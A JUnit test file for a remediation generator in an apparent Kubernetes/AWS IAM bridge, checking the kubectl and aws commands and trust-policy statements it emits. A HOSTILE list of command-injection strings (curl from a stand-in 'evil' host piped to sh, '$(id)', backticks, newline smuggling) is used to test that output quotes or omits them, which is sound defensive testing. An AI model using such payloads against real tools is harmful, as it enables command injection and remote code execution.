package io.iambridge.server.rehearsal;

import static org.assertj.core.api.Assertions.assertThat;

import io.iambridge.common.testing.FakeClock;
import io.iambridge.server.cluster.Workload;
import io.iambridge.server.credentials.Mechanism;
import io.iambridge.server.credentials.PodAccount;
import io.iambridge.server.credentials.Session;
import io.iambridge.server.modes.Target;
import io.iambridge.server.rehearsal.Trial.How;
import io.iambridge.server.roles.RoleArn;
import io.iambridge.server.targets.Finding;
import io.iambridge.server.targets.TargetException;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.EnumSource;

class RemediesTest {
  private static final String ROLE = "arn:aws:iam::123456789012:role/app";
  private static final String ISSUER = "https://oidc.eks.eu-west-1.amazonaws.com/id/1A";
  private static final String STATEMENT =
      """
      {"Effect":"Allow","Principal":{"Federated":\
      "arn:aws:iam::123456789012:oidc-provider/oidc.eks.eu-west-1.amazonaws.com/id/1A"},\
      "Action":"sts:AssumeRoleWithWebIdentity","Condition":{"StringEquals":{"oidc.eks.eu-west-1.amazonaws.com/id/1A:aud":\
      "sts.amazonaws.com","oidc.eks.eu-west-1.amazonaws.com/id/1A:sub":\
      "system:serviceaccount:shop:web"}}}\
      """;

  private final Remedies remedies =
      new Remedies(
          new Place(
              Optional.of(ISSUER),
              Optional.of("prod"),
              Optional.of("eu-west-1"),
              "kube-system/iambridge-server"));

  private static Trial trial(Target target) {
    PodAccount pod = new PodAccount("shop", "web-1", "uid", "web");
    Mechanism mechanism =
        target == Target.IRSA
            ? new Mechanism.WebIdentity(
                pod, "sts.amazonaws.com", Optional.empty(), Optional.empty())
            : new Mechanism.PodIdentity(pod, Optional.empty());
    return new Trial(
        "shop",
        "web",
        ROLE,
        target,
        "sts.amazonaws.com",
        List.of(new Workload("Deployment", "web")),
        new How.Attempt(
            new Session(RoleArn.parse(ROLE), "n", Optional.empty(), Map.of(), mechanism)));
  }

  private static String policy(String subject, String audience) {
    return """
    {"Version":"2012-10-17","Statement":[
      {"Effect":"Allow","Principal":{"AWS":"arn:aws:iam::123456789012:role/server"},"Action":"sts:AssumeRole"},
      {"Effect":"Allow","Principal":{"Federated":
        "arn:aws:iam::123456789012:oidc-provider/oidc.eks.eu-west-1.amazonaws.com/id/1A"},
       "Action":["sts:AssumeRoleWithWebIdentity"],"Condition":{
         "StringLike":{"oidc.eks.eu-west-1.amazonaws.com/id/1A:sub":["%s","x"]},
         "StringEquals":{"oidc.eks.eu-west-1.amazonaws.com/id/1A:aud":"%s"}}}]}
    """
        .formatted(subject, audience);
  }

  @ParameterizedTest
  @EnumSource(Finding.class)
  void everyFindingButReadySaysWhatToDo(Finding finding) {
    for (Target target : Target.values()) {
      assertThat(remedies.of(finding, trial(target)).isEmpty()).isEqualTo(finding == Finding.READY);
    }
  }

  @Test
  void deniedSubjectGetsTheStatementThatIsMissing() {
    assertThat(remedies.of(Finding.TRUST_DENIES_SUBJECT, trial(Target.IRSA)).lines())
        .last()
        .isEqualTo(STATEMENT);
  }

  @Test
  void whatCanBeCopiedIsACommand() {
    Trial irsa = trial(Target.IRSA);
    assertThat(remedies.of(Finding.NO_ROLE_ON_SERVICE_ACCOUNT, irsa))
        .endsWith(
            "\nkubectl annotate --overwrite serviceaccount -n shop web eks.amazonaws.com/role-arn="
                + ROLE);
    assertThat(remedies.of(Finding.NO_OIDC_PROVIDER, irsa))
        .contains(
            "\naws iam create-open-id-connect-provider --url "
                + ISSUER
                + " --client-id-list sts.amazonaws.com\n");
    assertThat(remedies.of(Finding.NO_ASSOCIATION, trial(Target.POD_IDENTITY)))
        .contains(
            "\naws eks create-pod-identity-association --cluster-name prod --namespace shop"
                + " --service-account web --role-arn "
                + ROLE
                + "\n");
    assertThat(remedies.of(Finding.TOKEN_NOT_PERMITTED, irsa))
        .contains(
            "\nkubectl create role -n shop iambridge-tokens --verb=create --resource=serviceaccounts/token\n",
            "--serviceaccount=kube-system:iambridge-server");
  }

  @Test
  void anAssociationsStatementKeepsOtherClustersOut() {
    assertThat(remedies.of(Finding.NO_ASSOCIATION, trial(Target.POD_IDENTITY)).lines())
        .last()
        .isEqualTo(
            """
            {"Effect":"Allow","Principal":{"Service":"pods.eks.amazonaws.com"},\
            "Action":["sts:AssumeRole","sts:TagSession"],"Condition":{"StringEquals":{\
            "aws:SourceAccount":"123456789012",\
            "aws:SourceArn":"arn:aws:eks:eu-west-1:123456789012:cluster/prod"}}}\
            """);
    Remedies elsewhere =
        new Remedies(new Place(Optional.empty(), Optional.empty(), Optional.empty(), "a/b"));
    assertThat(elsewhere.of(Finding.NO_ASSOCIATION, trial(Target.POD_IDENTITY)))
        .contains("\"aws:SourceArn\":\"arn:aws:eks:REGION:123456789012:cluster/CLUSTER\"");
  }

  @Test
  void anotherAssociationIsUpdatedAndNotCreatedAgain() {
    assertThat(remedies.of(Finding.DIFFERENT_ROLE, trial(Target.POD_IDENTITY)))
        .contains(
            "\naws eks update-pod-identity-association --cluster-name prod --role-arn "
                + ROLE
                + " --association-id \"$(aws eks list-pod-identity-associations --cluster-name prod"
                + " --namespace shop --service-account web --query"
                + " 'associations[0].associationId' --output text)\"\n",
            "pods.eks.amazonaws.com")
        .doesNotContain("create-pod-identity-association");
  }

  /**
   * What a service account's editor may write; the first two are ends of legal ARNs' paths, too.
   */
  private static final List<String> HOSTILE =
      List.of("x;curl${IFS}evil|sh", "$(id)", "x; curl evil|sh", "x\ncurl evil|sh", "'`id`'", "-x");

  private static Trial hostile(Target target, String role, String audience) {
    Trial plain = trial(target);
    return new Trial(
        plain.namespace(),
        plain.serviceAccount(),
        role,
        target,
        audience,
        plain.workloads(),
        new How.Impossible(""));
  }

  private List<String> all(Trial trial) {
    List<String> all = new ArrayList<>();
    for (Finding finding : Finding.values()) {
      all.add(remedies.of(finding, trial));
    }
    for (TrustReading reading : TrustReading.values()) {
      all.add(remedies.of(reading, trial));
    }
    all.add(remedies.ofNoRole(trial));
    return all;
  }

  @Test
  void anIllegalAudienceIsNamedAsSuchAndNotRepeated() {
    for (String audience : HOSTILE) {
      Trial trial = hostile(Target.IRSA, ROLE, audience);
      assertThat(all(trial)).noneMatch(remedy -> remedy.contains(audience));
      assertThat(remedies.of(Finding.WRONG_AUDIENCE, trial))
          .startsWith("Tokens are for an illegal audience")
          .endsWith(
              "\nkubectl annotate --overwrite serviceaccount -n shop web"
                  + " eks.amazonaws.com/audience=sts.amazonaws.com");
    }
  }

  @Test
  void whatATenantWroteIsOneWordOfACommand() {
    for (String path : HOSTILE.subList(0, 2)) {
      String role = "arn:aws:iam::123456789012:role/" + path + "/app";
      for (Target target : Target.values()) {
        assertThat(all(hostile(target, role, "sts.amazonaws.com")).stream().flatMap(String::lines))
            .filteredOn(line -> line.startsWith("kubectl ") || line.startsWith("aws "))
            .filteredOn(line -> line.contains(path))
            .isNotEmpty()
            .allMatch(line ->
                line.contains("'" + role + "'")
                    || line.contains("'eks.amazonaws.com/role-arn=" + role + "'"));
      }
    }
  }

  @Test
  void whatIsNoRoleIsNotRepeated() {
    for (String role : HOSTILE) {
      for (Target target : Target.values()) {
        assertThat(all(hostile(target, role, "sts.amazonaws.com")))
            .noneMatch(remedy -> role.length() > 2 && remedy.contains(role));
      }
    }
  }

  @Test
  void wrongAudienceNamesTheAnnotation() {
    String command =
        "\nkubectl annotate --overwrite serviceaccount -n shop web"
            + " eks.amazonaws.com/audience=sts.amazonaws.com\n";
    assertThat(remedies.of(Finding.WRONG_AUDIENCE, trial(Target.IRSA))).contains(command);
    assertThat(remedies.of(TrustReading.OTHER_AUDIENCE, trial(Target.IRSA))).contains(command);
  }

  @ParameterizedTest
  @CsvSource({
    "system:serviceaccount:shop:web, sts.amazonaws.com, OPEN",
    "system:serviceaccount:shop:*, sts.amazonaws.com, OPEN",
    "system:serviceaccount:shop:we?, sts.amazonaws.com, OPEN",
    "system:serviceaccount:shop:api, sts.amazonaws.com, OTHER_SUBJECT",
    "system:serviceaccount:shop:web, other, OTHER_AUDIENCE",
    "system:serviceaccount:shop:api, other, OTHER_SUBJECT",
  })
  void trustPolicyTellsSubjectFromAudience(String subject, String audience, TrustReading reading) {
    assertThat(
            TrustReading.of(
                policy(subject, audience),
                ISSUER,
                "system:serviceaccount:shop:web",
                "sts.amazonaws.com"))
        .isEqualTo(reading);
  }

  @Test
  void anotherClustersProviderIsNone() {
    assertThat(
            TrustReading.of(
                policy("*", "sts.amazonaws.com"), "https://else.example", "s", "sts.amazonaws.com"))
        .isEqualTo(TrustReading.NO_STATEMENT);
    assertThat(TrustReading.of("{", ISSUER, "s", "a")).isEqualTo(TrustReading.OPEN);
  }

  @Test
  void deniedIsLookedIntoWherePoliciesMayBeSeen() {
    assertThat(denied(role -> new TrustPolicies.Look.Seen(policy("*", "other"))).finding())
        .contains(Finding.WRONG_AUDIENCE);
    assertThat(denied(role -> new TrustPolicies.Look.Seen(policy("x", "other"))).finding())
        .contains(Finding.TRUST_DENIES_SUBJECT);
    assertThat(denied(role -> new TrustPolicies.Look.NoRole()).remedy())
        .startsWith("There is no role " + ROLE);
    assertThat(denied(TrustPolicies.HIDDEN).ownWords()).isEqualTo("Not authorized");
  }

  private Rehearsed denied(TrustPolicies policies) {
    return new Attempts(
            session -> {
              throw new TargetException(Finding.TRUST_DENIES_SUBJECT, "Not authorized");
            },
            policies,
            remedies,
            new FakeClock())
        .make(trial(Target.IRSA));
  }
}
